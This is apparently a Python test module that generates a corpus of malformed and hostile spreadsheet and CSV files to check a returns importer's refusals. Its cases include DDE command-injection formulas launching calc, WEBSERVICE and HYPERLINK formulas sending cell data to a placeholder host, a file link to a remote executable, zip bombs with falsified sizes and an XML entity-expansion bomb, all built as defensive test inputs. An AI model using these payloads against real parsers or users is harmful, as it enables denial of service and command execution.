"""A corpus of broken and hostile returns, made at test time from the project's own template
(csvpp's 2025/26 Q2 return, figures from the deterministic demo data) so no binary is
committed. Each :class:`Case` is one file, what the import must say about it (the words and
the place), or that it is a valid control that must still be stored.

The classes follow issue 10 and what a person would try next: rows the reader must not drop
(stale dimension, blank rows, a header not on row 1), files that would exhaust memory (a cell
at XFD1048576, 100,000 rows, a 1 MB cell, zip bombs, XML entities), damaged parts (missing
shared string, text or NaN in a number cell, malformed XML, a chart sheet), active content
(DDE, HYPERLINK and WEBSERVICE formulas, text that runs as a formula, external links, macros,
embedded objects), and the everyday (encodings, line endings, merged cells, hidden sheets,
dates and booleans in number cells, thousands separators, unicode minus, NaN and infinity,
renamed types, duplicated columns, password protection).

Run it by hand to look at the files: ``.venv/bin/python -m tests.hostile.make_corpus OUT_DIR``.
"""

from __future__ import annotations

import copy
import io
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from metrics.demo import series as demo
from metrics.plan.model import Plan, load_plan
from metrics.quarters import Quarter
from metrics.returns import rows_csv, rows_xlsx

QUARTER = Quarter.parse("2025/26 Q2")
SUBGROUP = "csvpp"
INDICATORS_XML = "xl/worksheets/sheet2.xml"  # the template's sheet order: Read me, Indicators, Actions, Lists
TEMPLATE_STYLES = 7  # cell styles in the template's styles.xml, Read me headings included (a date style follows)
FILE = "The file"  # where a message about the whole file says it is
MARK = "XHOSTILEX"  # a placeholder the hostile text replaces after the template is written


@dataclass(frozen=True)
class Case:
    """One corpus file and what importing it must do."""

    name: str
    content: bytes
    kind: str  # the class of problem, as the issue names it
    words: str = ""  # words the refusal must contain ("" for a valid control)
    where: str = FILE  # where the message must place it ("Indicators sheet, row 3", ...)
    stored: bool = False  # a valid control: it must be stored
    explanation: str | None = None  # given with --explanation (a control whose warnings are expected)


def _rows(plan: Plan) -> tuple[list[dict], list[dict]]:
    """A complete, valid return: every figure, a comment on every indicator, every status."""
    data = demo.generate(plan)
    for sub, quarter, indicators, actions in demo.demo_returns(plan, data):
        if sub == SUBGROUP and quarter == QUARTER:
            for r in indicators:
                r["commentary"] = r["commentary"] or "Checked by the lead."
                r["contact"] = "lead@example.org"
            for r in actions:
                r["status"] = r["status"] or "On track"
            return indicators, actions
    raise LookupError(f"no demo return for {SUBGROUP} {QUARTER.label}")


def _inject(data: bytes, text: str, *, csv: bool) -> bytes:
    """The file with the placeholder replaced by ``text`` as a person would have typed it: the
    template writers quote formula-like text (an apostrophe), so hostile text goes in after."""
    quoted = '"' + text.replace('"', '""') + '"' if csv else text
    assert MARK.encode() in data
    return data.replace(MARK.encode(), quoted.encode("utf-8"))


def _zip(data: bytes, change: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """The workbook with each member passed through ``change`` (None drops it) and ``add`` added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = change(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _sheet(data: bytes, edit: Callable[[str], str], part: str = INDICATORS_XML) -> bytes:
    """The workbook with one sheet's XML edited as text."""

    def change(name: str, body: bytes) -> bytes:
        return edit(body.decode("utf-8")).encode("utf-8") if name == part else body

    return _zip(data, change)


def _cell(xml: str, ref: str, new: str) -> str:
    """Replace the cell ``ref`` (e.g. 'I3') with the XML ``new``."""
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)')
    assert pattern.search(xml), ref
    return pattern.sub(new, xml, count=1)


def _workbook_xml(data: bytes, edit: Callable[[str], str]) -> bytes:
    return _sheet(data, edit, "xl/workbook.xml")


def cases(plan: Plan) -> list[Case]:
    """Every corpus file, made from the plan's own template."""
    base = _rows(plan)

    def variant(change: Callable[[list[dict], list[dict]], None]) -> tuple[list[dict], list[dict]]:
        ind, act = copy.deepcopy(base)
        change(ind, act)
        return ind, act

    def set_ind(index: int, **values: object) -> tuple[list[dict], list[dict]]:
        return variant(lambda i, _a: i[index].update(values))

    def xlsx_of(rows: tuple[list[dict], list[dict]]) -> bytes:
        return rows_xlsx(plan, SUBGROUP, QUARTER, *rows)

    xlsx = xlsx_of(base)
    csv_bytes = rows_csv(*base)
    csv_text = csv_bytes.decode("utf-8-sig")
    header = csv_text.splitlines()[0]
    ind_sheet = "Indicators sheet"
    out: list[Case] = []

    # --- valid controls: read whole, stored ---------------------------------------------------
    out.append(Case("control.xlsx", xlsx, "control", stored=True))
    out.append(Case("control.csv", csv_bytes, "control", stored=True))
    out.append(
        Case(
            "stale_dimension.xlsx",
            _sheet(xlsx, lambda x: x.replace('<dimension ref="A1:L8"', '<dimension ref="A1:L3"')),
            "rows below a stale <dimension> are read",
            stored=True,
        )
    )

    def blank_rows_above(x: str) -> str:
        # Move every row down by three: rows 1-3 blank, the header on row 4, a gap after row 6.
        def shift(m: re.Match) -> str:
            n = int(m.group(2))
            return f'{m.group(1)}{n + 3 + (2 if n > 3 else 0)}"'

        return re.sub(r'(<row r=")(\d+)"', shift, re.sub(r'(<c r="[A-Z]+)(\d+)"', shift, x))

    out.append(Case("header_on_row_4.xlsx", _sheet(xlsx, blank_rows_above), "blank rows above and inside", stored=True))
    out.append(Case("lf_endings.csv", csv_bytes.replace(b"\r\n", b"\n"), "line endings", stored=True))
    out.append(Case("cr_endings.csv", csv_bytes.replace(b"\r\n", b"\r"), "line endings", stored=True))
    out.append(Case("no_bom.csv", csv_text.encode("utf-8"), "encodings", stored=True))
    out.append(
        Case(
            "plain_arithmetic.xlsx",
            _sheet(xlsx, lambda x: _cell(x, "I3", '<c r="I3" s="4"><f>200+18</f><v>218</v></c>')),
            "arithmetic formula with a saved result",
            stored=True,
        )
    )
    out.append(
        Case(
            "thousands_separator.csv",
            rows_csv(*set_ind(0, value="1,234")),
            "thousands separators",
            stored=True,
            explanation="The figure is right: checked with the analyst.",
        )
    )

    # --- rows never dropped: found, or refused by name ------------------------------------------
    out.append(
        Case(
            "title_above_header.xlsx",
            _sheet(
                _sheet(xlsx, blank_rows_above),
                lambda x: x.replace(
                    "<sheetData>",
                    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Our quarterly return</t></is></c></row>',
                ),
            ),
            "a row above the header",
            "this row lies above the header row (row 4)",
            f"{ind_sheet}, row 1",
        )
    )
    out.append(
        Case(
            "no_header.csv",
            "\r\n".join(csv_text.splitlines()[1:]).encode("utf-8"),
            "header missing",
            "required column(s)",
            "CSV file, row 1",
        )
    )

    # --- memory: bounded before anything is held -------------------------------------------------
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    out.append(
        Case(
            "cell_at_xfd1048576.xlsx",
            _sheet(
                xlsx,
                lambda x: x.replace('<dimension ref="A1:L8"', '<dimension ref="A1:XFD1048576"').replace(
                    "</sheetData>", far, 1
                ),
            ),  # fmt: skip
            "memory: one far cell",
            "beyond row 2,000",
            f"{ind_sheet}, row 1048576",
        )
    )
    wide = '<row r="9"><c r="ZZ9" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    out.append(
        Case(
            "cell_at_zz9.xlsx",
            _sheet(xlsx, lambda x: x.replace("</sheetData>", wide, 1)),
            "memory: one wide cell",
            "beyond column AN",
            f"{ind_sheet}, row 9",
        )
    )
    row = csv_text.splitlines()[1]
    out.append(
        Case(
            "rows_100000.csv",
            ("\r\n".join([header] + [row] * 100_000) + "\r\n").encode("utf-8")[:4_900_000],
            "memory and amplification: 100,000 rows",
            "has a filled-in row beyond row 2,000",
            "CSV file, row 2001",
        )
    )
    many = [header] + [row.replace(",2025/26 Q2,", ",2025/26 Q7,", 1)] * 1_900
    out.append(
        Case(
            "errors_1900.csv",
            ("\r\n".join(many) + "\r\n").encode("utf-8"),
            "amplification: bounded messages",
            "more of the",
            "CSV file, column 'quarter'",
        )
    )
    out.append(
        Case(
            "cell_1mb.csv",
            rows_csv(*set_ind(2, commentary="x" * 1_000_000)),
            "memory: a 1 MB cell",
            "a cell holds more than",
            "CSV file, row 4",
        )
    )
    out.append(
        Case(
            "cell_6000_chars.csv",
            rows_csv(*set_ind(2, commentary="Long note. " * 600)),
            "a long cell",
            "the cell holds 6,600 characters",
            "CSV file, row 4, column 'commentary'",
        )
    )
    out.append(
        Case(
            "cell_1mb.xlsx",
            rows_xlsx(plan, SUBGROUP, QUARTER, *set_ind(2, commentary="x" * 1_000_000)),
            "memory: a 1 MB cell",
            "the cell holds 32,767 characters",  # openpyxl, like Excel, cuts a cell at 32,767
            f"{ind_sheet}, row 4, column 'commentary'",
        )
    )
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr(INDICATORS_XML, b" " * 40_000_000)
    out.append(Case("zip_bomb.xlsx", bomb.getvalue(), "zip bomb", "which is how a 'zip bomb' looks"))
    out.append(Case("zip_bomb_lying_sizes.xlsx", _lying_sizes(xlsx), "zip bomb: sizes that lie", "do not match",
                    ind_sheet))  # fmt: skip
    out.append(
        Case(
            "commas_4mb.csv",
            csv_bytes + b"," * 4_000_000 + b"\r\n",
            "memory: a 4 MB row of empty cells (blank, so the rest is stored)",
            stored=True,
        )
    )
    merges = "".join(f'<mergeCell ref="A{r}:B{r}"/>' for r in range(10, 10 + 100_001))
    out.append(
        Case(
            "merged_100001.xlsx",
            _sheet(xlsx, lambda x: x.replace("</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>", 1)),
            "memory: 100,001 merged ranges",
            "more than 100,000 merged ranges",
        )
    )
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_STORED) as z:
        z.writestr("inner.xlsx", bomb.getvalue())
    out.append(
        Case(
            "zip_in_zip.xlsx",
            _zip(xlsx, lambda _n, b: b, {"xl/embeddings/inner.zip": nested.getvalue()}),
            "zip bomb inside an embedded object",
            "an embedded object",
        )
    )
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lololololololololol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">' for i in range(9))
        + "]>"
    )
    out.append(
        Case(
            "xml_entities.xlsx",
            _sheet(xlsx, lambda x: laughs + x.replace("<t>count</t>", "<t>&lol8;</t>", 1)),
            "memory: XML entity expansion",
            "declares a DOCTYPE",
        )
    )

    # --- damaged parts: located, never a traceback -----------------------------------------------
    shared = _zip(
        _sheet(xlsx, lambda x: _cell(x, "K3", '<c r="K3" t="s"><v>57</v></c>')),
        lambda _n, b: b,
        {"xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>a</t></si></sst>'},
    )  # fmt: skip
    out.append(
        Case(
            "missing_shared_string.xlsx",
            shared,
            "a missing shared string",
            "refers to shared text number 57",
            f"{ind_sheet}, row 3, column 'commentary'",
        )
    )
    out.append(
        Case(
            "text_in_number_cell.xlsx",
            _sheet(xlsx, lambda x: _cell(x, "I3", '<c r="I3" t="n"><v>lots</v></c>')),
            "a numeric cell holding text",
            "marked as a number but holds text",
            f"{ind_sheet}, row 3, column 'value'",
        )
    )
    out.append(
        Case(
            "nan_in_number_cell.xlsx",
            _sheet(xlsx, lambda x: _cell(x, "I3", '<c r="I3"><v>NaN</v></c>')),
            "NaN in a number cell",
            "a number that is not finite",
            f"{ind_sheet}, row 3, column 'value'",
        )
    )
    out.append(
        Case(
            "malformed_xml.xlsx",
            _sheet(xlsx, lambda x: x[: len(x) // 2]),
            "malformed sheet XML",
            "its XML breaks off or is malformed",
            f"{ind_sheet}",
        )
    )

    def chart(name: str, body: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return body.replace(b'relationships/worksheet" Target="/xl/worksheets/sheet2.xml"',
                                b'relationships/chartsheet" Target="/xl/chartsheets/sheet1.xml"')  # fmt: skip
        return body

    out.append(
        Case(
            "chart_sheet.xlsx",
            _zip(xlsx, chart, {"xl/chartsheets/sheet1.xml": b"<chartsheet/>"}),
            "a chart sheet where a sheet is expected",
            "is a chart sheet, not a table of cells",
            ind_sheet,
        )
    )
    out.append(
        Case(
            "error_cell.xlsx",
            _sheet(xlsx, lambda x: _cell(x, "I3", '<c r="I3" t="e"><v>#DIV/0!</v></c>')),
            "a spreadsheet error",
            "a spreadsheet error instead of a value",
            f"{ind_sheet}, row 3, column 'value'",
        )
    )
    valid_zip = xlsx
    out.append(Case("truncated.xlsx", valid_zip[: len(valid_zip) // 2], "a truncated file", "cannot be opened"))
    out.append(Case("empty.xlsx", b"", "an empty file", "is empty"))

    # --- active content: refused with the reason ---------------------------------------------------
    for name, formula in (
        ("dde_formula.xlsx", "cmd|' /C calc'!A0"),
        ("hyperlink_formula.xlsx", 'HYPERLINK("http://example.invalid/x","click")'),
        ("webservice_formula.xlsx", 'WEBSERVICE("http://example.invalid/?q="&amp;A1)'),
        ("other_sheet_formula.xlsx", "Lists!A2"),
        ("formula_no_saved_value.xlsx", "200+18"),
    ):
        saved = "" if "no_saved" in name else "<v>218</v>"
        out.append(
            Case(
                name,
                _sheet(xlsx, lambda x, f=formula, v=saved: _cell(x, "I3", f'<c r="I3"><f>{f}</f>{v}</c>')),
                "active content: a formula",
                "no saved numeric result" if "no_saved" in name else "holds a formula that can fetch, link or run",
                f"{ind_sheet}, row 3, column 'value'",
            )
        )
    out.append(
        Case(
            "formula_text.csv",
            _inject(rows_csv(*set_ind(1, commentary=MARK)), '=HYPERLINK("http://example.invalid","see")', csv=True),
            "active content: text that runs as a formula",
            "text a spreadsheet would run as a formula",
            "CSV file, row 3, column 'commentary'",
        )
    )
    out.append(
        Case(
            "dde_text.csv",
            _inject(rows_csv(*set_ind(1, contact=MARK)), "-2+3+cmd|' /C calc'!A0", csv=True),
            "active content: DDE as text",
            "text a spreadsheet would run as a formula",
            "CSV file, row 3, column 'contact'",
        )
    )
    out.append(
        Case(
            "formula_text.xlsx",
            _sheet(xlsx_of(set_ind(1, commentary=MARK)), lambda x: x.replace(MARK, "@SUM(1+1)*cmd|' /C calc'!A0")),
            "active content: text that runs as a formula",
            "text a spreadsheet would run as a formula",
            f"{ind_sheet}, row 3, column 'commentary'",
        )
    )
    for name, part, words in (
        ("macro_project.xlsx", "xl/vbaProject.bin", "contains macros, which a return must not carry"),
        ("embedded_object.xlsx", "xl/embeddings/oleObject1.bin", "an embedded object"),
        ("external_link.xlsx", "xl/externalLinks/externalLink1.xml", "a link to another workbook"),
        ("activex.xlsx", "xl/activeX/activeX1.xml", "contains macros, which a return must not carry"),
        ("macro_sheet.xlsx", "xl/macrosheets/sheet1.xml", "contains macros, which a return must not carry"),
        ("custom_ribbon.xlsx", "customUI/customUI14.xml", "a custom ribbon that can call macros"),
        ("query_table.xlsx", "xl/queryTables/queryTable1.xml", "a query that fetches data"),
        ("data_connection.xlsx", "xl/connections.xml", "a data connection"),
    ):
        out.append(Case(name, _zip(xlsx, lambda _n, b: b, {part: b"<x/>"}), "active content: a part", words))

    def file_link(name: str, body: bytes) -> bytes:
        if name == INDICATORS_XML:
            return body.replace(b"</worksheet>", b'<hyperlinks><hyperlink ref="K3" r:id="rId9" '
                                b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
                                b"</hyperlinks></worksheet>")  # fmt: skip
        return body

    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        b' Target="file://///server/share/run.exe" TargetMode="External"/></Relationships>'
    )
    out.append(
        Case(
            "file_hyperlink.xlsx",
            _zip(xlsx, file_link, {"xl/worksheets/_rels/sheet2.xml.rels": rels}),
            "active content: a link to a file",
            "links to something outside the workbook",
            ind_sheet,
        )
    )
    out.append(Case("macro_workbook.xlsm", xlsx, "renamed types: a macro workbook", "macros are not accepted"))

    # --- everyday troubles ---------------------------------------------------------------------------
    merged = _sheet(xlsx, lambda x: x.replace("</sheetData>", '</sheetData><mergeCells count="1">'
                                              '<mergeCell ref="K3:K5"/></mergeCells>', 1))  # fmt: skip
    out.append(Case("merged_cells.xlsx", merged, "merged cells", "the cells K3:K5 are merged", f"{ind_sheet}, row 3"))
    out.append(
        Case(
            "hidden_sheet.xlsx",
            _workbook_xml(
                xlsx,
                lambda x: x.replace(
                    'name="Indicators" sheetId="2" state="visible"', 'name="Indicators" sheetId="2" state="hidden"'
                ),
            ),  # fmt: skip
            "a hidden sheet",
            "sheet is hidden",
            ind_sheet,
        )
    )
    out.append(
        Case(
            "date_in_number_cell.xlsx",
            _date_styled(xlsx),
            "a date in a number cell",
            "the value is not a number. Seen: '2025-08-01'",
            f"{ind_sheet}, row 3, column 'value'",
        )
    )
    out.append(
        Case(
            "boolean_in_number_cell.xlsx",
            _sheet(xlsx, lambda x: _cell(x, "I3", '<c r="I3" t="b"><v>1</v></c>')),
            "a boolean in a number cell",
            "the value is not a number. Seen: 'True'",
            f"{ind_sheet}, row 3, column 'value'",
        )
    )
    out.append(
        Case(
            "unicode_minus.csv",
            rows_csv(*set_ind(2, value="\u22125")),
            "unicode minus (read as a minus)",
            "cannot be negative",
            "CSV file, row 4, column 'value'",
        )
    )
    for name, text in (("nan_text.csv", "NaN"), ("infinity_text.csv", "Infinity")):
        out.append(
            Case(
                name,
                rows_csv(*set_ind(2, value=text)),
                "NaN and infinity",
                f"the value is not a number. Seen: '{text}'",
                "CSV file, row 4, column 'value'",
            )
        )
    dup = csv_text.replace(",contact", ",value", 1).encode("utf-8")
    out.append(
        Case(
            "duplicate_value_column.csv",
            dup,
            "a duplicated column",
            "the column 'value' appears twice",
            "CSV file, row 1, column 'value'",
        )
    )
    shifted = (
        rows_csv(*set_ind(1, commentary="XCOMMAX"))
        .replace(b'"XCOMMAX"', b"rose, then fell")
        .replace(b",XCOMMAX,", b",rose, then fell,")
    )
    out.append(
        Case("unquoted_comma.csv", shifted, "a comma not in quotes", "which has no header", "CSV file, row 3, column")
    )
    out.append(Case("utf16.csv", csv_text.encode("utf-16"), "encodings: UTF-16", "is not in a text encoding we read"))
    out.append(
        Case(
            "latin1_undecodable.csv",
            rows_csv(*set_ind(0, commentary="XBADX")).replace(b"XBADX", b"caf\x81"),
            "encodings: undecodable",
            "is neither UTF-8 nor Windows-1252",
            "CSV file, row 2",
        )
    )
    out.append(Case("nul_bytes.csv", csv_bytes.replace(b"lead@", b"le\x00ad@"), "binary in a CSV", "binary data"))
    out.append(Case("csv_named_xlsx.xlsx", csv_bytes, "renamed types", "is named .xlsx but its content is text"))
    out.append(Case("xlsx_named_csv.csv", xlsx, "renamed types", "its content is an Excel workbook"))
    out.append(Case("pdf_named_xlsx.xlsx", b"%PDF-1.4\n%%EOF\n", "renamed types", "its content is a PDF"))
    encrypted = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 64
    )
    out.append(Case("password.xlsx", encrypted, "a password-protected workbook", "is a password-protected workbook"))
    out.append(Case("old_excel.xls", encrypted[:512], "renamed types: an old .xls", "Excel 97-2003"))
    return out


def _lying_sizes(xlsx: bytes) -> bytes:
    """The workbook with its Indicators sheet replaced by 30 MB of XML whose zip headers (local
    and central) declare 2,000 bytes: the size checks pass, and the reader must still stop."""
    body = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    body += b"<row/>" * 5_000_000 + b"</sheetData></worksheet>"
    data = bytearray(_zip(xlsx, lambda n, b: body if n == INDICATORS_XML else b))
    declared = (2_000).to_bytes(4, "little")
    real = len(body).to_bytes(4, "little")
    name = INDICATORS_XML.encode()
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, central directory
        at = 0
        while (at := data.find(signature, at)) != -1:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name and data[at + size_at : at + size_at + 4] == real:
                data[at + size_at : at + size_at + 4] = declared
            at += 4
    return bytes(data)


def _date_styled(xlsx: bytes) -> bytes:
    """The workbook with I3 holding 1 Aug 2025 as Excel stores a date: a serial number in a
    cell styled with a date format."""

    def change(name: str, body: bytes) -> bytes:
        text = body.decode("utf-8")
        if name == "xl/styles.xml":
            assert f'<cellXfs count="{TEMPLATE_STYLES}"' in text  # the new style's index is the old count
            text = text.replace(f'<cellXfs count="{TEMPLATE_STYLES}"', f'<cellXfs count="{TEMPLATE_STYLES + 1}"')
            text = text.replace("</cellXfs>", '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" '
                                'applyNumberFormat="1"/></cellXfs>')  # fmt: skip
        if name == INDICATORS_XML:
            text = _cell(text, "I3", f'<c r="I3" s="{TEMPLATE_STYLES}"><v>45870</v></c>')
        return text.encode("utf-8")

    return _zip(xlsx, change)


def write(folder: Path, plan: Plan | None = None) -> list[Case]:
    """Write every case into ``folder``; returns the cases."""
    folder.mkdir(parents=True, exist_ok=True)
    made = cases(plan or load_plan())
    for case in made:
        (folder / case.name).write_bytes(case.content)
    return made


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
    print(f"wrote {len(write(target))} files to {target}")
